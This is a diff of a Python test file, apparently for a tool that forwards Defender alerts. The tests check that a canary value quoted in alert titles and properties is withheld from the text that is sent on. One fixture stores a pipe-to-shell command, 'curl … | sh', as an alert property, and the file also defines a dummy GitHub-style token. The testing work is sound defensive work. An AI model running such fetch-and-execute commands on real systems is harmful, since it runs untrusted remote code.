@@ -68,12 +68,12 @@ def test_a_group_that_waited_withholds_what_its_text_quotes() -> None:
     assert CANARY not in texts_sent(_bounded(whole), NAME)
 
 
-@pytest.mark.xfail(strict=True, reason="a member's name in the state does not say which properties its title quotes")
 def test_a_group_withholds_what_the_title_of_another_member_quotes() -> None:
-    """A member is named by its title, in which Defender's placeholders are filled in already."""
+    """A member is named by its title with the names of its placeholders, since its properties are not known by then."""
     member = noticed(AlertDisplayName="Ran %{Suspicious Command}", ExtendedProperties={NAME: f"curl {CANARY} | sh"})
     head = a_notice(group=a_group(named=(named_member(member),)))
     assert CANARY not in texts_sent(head, NAME)
+    assert named_member(member).title == "Ran [Suspicious Command]"
 
 
 TOKEN = "ghp_" + "A" * 36
